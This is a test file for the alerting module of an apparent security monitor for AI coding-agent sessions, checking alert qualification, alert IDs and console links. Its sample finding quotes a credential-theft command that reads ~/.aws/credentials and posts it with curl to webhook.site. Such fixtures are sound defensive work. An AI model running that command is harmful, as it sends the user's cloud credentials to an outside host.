import { describe, expect, it } from 'vitest';
import type { Finding, SessionState } from '../schemas/findings.ts';
import { alertId, buildAlert, consoleLink, qualifies } from './alert.ts';

const finding = (f: Partial<Finding> = {}): Finding => ({
  findingId: 'f-1',
  workspace: 'acme',
  sessionId: 's/1 #x',
  version: 1,
  verdict: 'escalation',
  score: 95,
  confidence: 0.9,
  severity: 'critical',
  title: 'Credentials sent to an unknown host',
  rationale: 'read ~/.aws/credentials, then curl -d @- https://webhook.site/x',
  evidenceEventIds: [],
  detectors: [],
  techniques: ['T1552.001', 'T1041'],
  engineVersion: 'test',
  judge: '',
  createdAtMs: 1_767_262_800_000,
  ...f,
});

describe('what is alerted', () => {
  it('alerts on escalations at any severity, on mistakes only from the configured severity', () => {
    expect(qualifies(finding({ severity: 'low' }), 'off')).toBe(true);
    expect(qualifies(finding({ verdict: 'benign', severity: 'critical' }), 'high')).toBe(false);
    expect(qualifies(finding({ verdict: 'mistake', severity: 'critical' }), 'off')).toBe(false);
    expect(qualifies(finding({ verdict: 'mistake', severity: 'high' }), 'high')).toBe(true);
    expect(qualifies(finding({ verdict: 'mistake', severity: 'medium' }), 'high')).toBe(false);
    expect(qualifies(finding({ verdict: 'mistake', severity: 'high' }), 'critical')).toBe(false);
    expect(qualifies(finding({ verdict: 'mistake', severity: 'critical' }), 'critical')).toBe(true);
  });

  it('derives one alert id per (workspace, session, finding)', () => {
    const id = alertId('acme', 's-1', 'f-1');
    expect(id).toMatch(/^alrt_[0-9a-f]{32}$/);
    expect(alertId('acme', 's-1', 'f-1')).toBe(id);
    expect(alertId('globex', 's-1', 'f-1')).not.toBe(id);
    expect(alertId('acme', 's-2', 'f-1')).not.toBe(id);
    expect(alertId('acme', 's-1', 'f-2')).not.toBe(id);
    // No ambiguity from joining: ("a b", "c") and ("a", "b c") differ.
    expect(alertId('a', 'b.c', 'd')).not.toBe(alertId('a.b', 'c', 'd'));
  });

  it('links to the session in the console with its id encoded', () => {
    expect(consoleLink('https://warden.example.com/', 's/1 #x')).toBe(
      'https://warden.example.com/console/#/sessions/s%2F1%20%23x',
    );
    const state = { agent: 'codex_cli_rs', source: 'codex', userEmail: 'dev@acme.test' } as SessionState;
    const alert = buildAlert(state, finding(), 'http://127.0.0.1:8080');
    expect(alert).toMatchObject({
      alertId: alertId('acme', 's/1 #x', 'f-1'),
      user: 'dev@acme.test',
      agent: 'codex_cli_rs',
      consoleUrl: 'http://127.0.0.1:8080/console/#/sessions/s%2F1%20%23x',
      occurredAtMs: 1_767_262_800_000,
    });
    expect(buildAlert({ ...state, userEmail: undefined, userId: 'u-42' }, finding(), 'x').user).toBe('u-42');
    expect('user' in buildAlert({ ...state, userEmail: undefined }, finding(), 'x')).toBe(false);
  });
});
